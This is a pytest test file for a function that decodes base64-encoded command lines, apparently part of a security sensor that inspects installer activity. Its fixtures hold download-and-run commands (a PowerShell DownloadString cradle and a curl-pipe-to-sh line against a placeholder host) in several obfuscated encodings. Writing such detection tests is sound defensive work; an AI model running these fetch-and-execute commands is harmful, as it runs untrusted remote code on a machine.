"""What encoded command lines say."""

from __future__ import annotations

import base64

import pytest
from installer_trees.decoded import MAX_CHARS, decoded

TEXT = "IEX (New-Object Net.WebClient).DownloadString('https://files.example/a')"
WIDE = base64.b64encode(TEXT.encode("utf-16-le")).decode()
NARROW = base64.b64encode(b"curl -fsS https://files.example/a | sh").decode()
NOISE = base64.b64encode(bytes((i * 37 + 129) % 256 for i in range(60))).decode()


@pytest.mark.parametrize(
    ("command", "text"),
    [
        (f"powershell -NoProfile -enc {WIDE}", TEXT),
        (f'powershell.exe -e "{WIDE}"', TEXT),
        (f"pwsh \u2013EncodedCommand {WIDE}", TEXT),
        (f"powershell -enc {WIDE.rstrip('=')}", TEXT),
        (f"sh -c echo {NARROW} | base64 -d | sh", "curl -fsS https://files.example/a | sh"),
        (f"python3 -c import base64;exec(base64.b64decode('{NARROW}'))",
         "curl -fsS https://files.example/a | sh"),
        (f"echo {NARROW} {WIDE} | base64 -d", f"curl -fsS https://files.example/a | sh\n{TEXT}"),
        (f"powershell -enc {NOISE}", ""),
        (f"tool --token {WIDE}", ""),
        ("powershell -enc", ""),
        ("powershell -enc A=", ""),
        ("base64 -d /usr/share/averylongdirectoryname/averylongfilename", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_decoded(command: str, text: str) -> None:
    assert decoded(command) == text


def test_it_is_cut() -> None:
    long = base64.b64encode(b"abc " * 5_000).decode()
    assert len(decoded(f"echo {long} | base64 -d")) == MAX_CHARS


@pytest.mark.parametrize("cut", range(1, 9))
def test_a_text_that_a_sensor_has_cut_is_read_as_far_as_it_goes(cut: int) -> None:
    assert decoded(f"powershell -enc {WIDE.rstrip('=')[:-cut]}").startswith(TEXT[:-8])
